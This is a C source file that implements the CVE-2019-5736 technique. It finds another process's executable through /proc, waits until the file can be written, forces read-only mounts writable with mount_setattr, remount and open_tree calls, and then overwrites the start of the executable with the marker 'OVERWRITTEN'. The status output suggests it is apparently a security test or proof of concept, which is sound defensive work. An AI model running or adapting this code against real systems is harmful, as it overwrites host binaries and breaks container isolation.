/*
 * Waits for a process that executes another file than this one's own, opens that file by way of /proc/PID/exe, and
 * overwrites its beginning as soon as nobody executes it any more (CVE-2019-5736). Should the mount that it is on be
 * read-only, it first asks the kernel in every way to make it writable.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/mount.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int strange(void)
{
	struct stat own, its;
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char path[64];

	stat("/proc/self/exe", &own);
	for (;;) {
		rewinddir(proc);
		while ((entry = readdir(proc))) {
			int fd;

			if (atoi(entry->d_name) <= 0)
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			fd = open(path, O_PATH);
			if (fd < 0)
				continue;
			if (fstat(fd, &its) == 0 && (its.st_dev != own.st_dev || its.st_ino != own.st_ino))
				return fd;
			close(fd);
		}
	}
}

/* Nothing of it may help, so nothing is checked. */
static void make_writable(int fd, const char *path)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
	int copy;

	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable));
	mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
	mount(NULL, path, NULL, MS_REMOUNT, NULL);
	copy = syscall(SYS_open_tree, fd, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
	if (copy >= 0) {
		syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &writable, sizeof(writable));
		dup2(copy, fd);
	}
}

int main(void)
{
	char path[64], link[256] = "";
	int fd, writing, i;

	puts("waiting");
	fflush(stdout);
	fd = strange();
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	readlink(path, link, sizeof(link) - 1);
	printf("caught %s\n", link);
	for (i = 0; i < 3000; i++) {
		writing = open(path, O_WRONLY);
		if (writing >= 0 || errno != ETXTBSY)
			break;
		usleep(1000);
	}
	if (writing < 0 && errno == EROFS) {
		make_writable(fd, path);
		writing = open(path, O_WRONLY);
	}
	if (writing >= 0 && write(writing, "OVERWRITTEN", 11) == 11)
		puts("end: OVERWRITTEN");
	else
		printf("end: unwritable: %s\n", strerror(errno));
	fflush(stdout);
	pause();
	return 0;
}
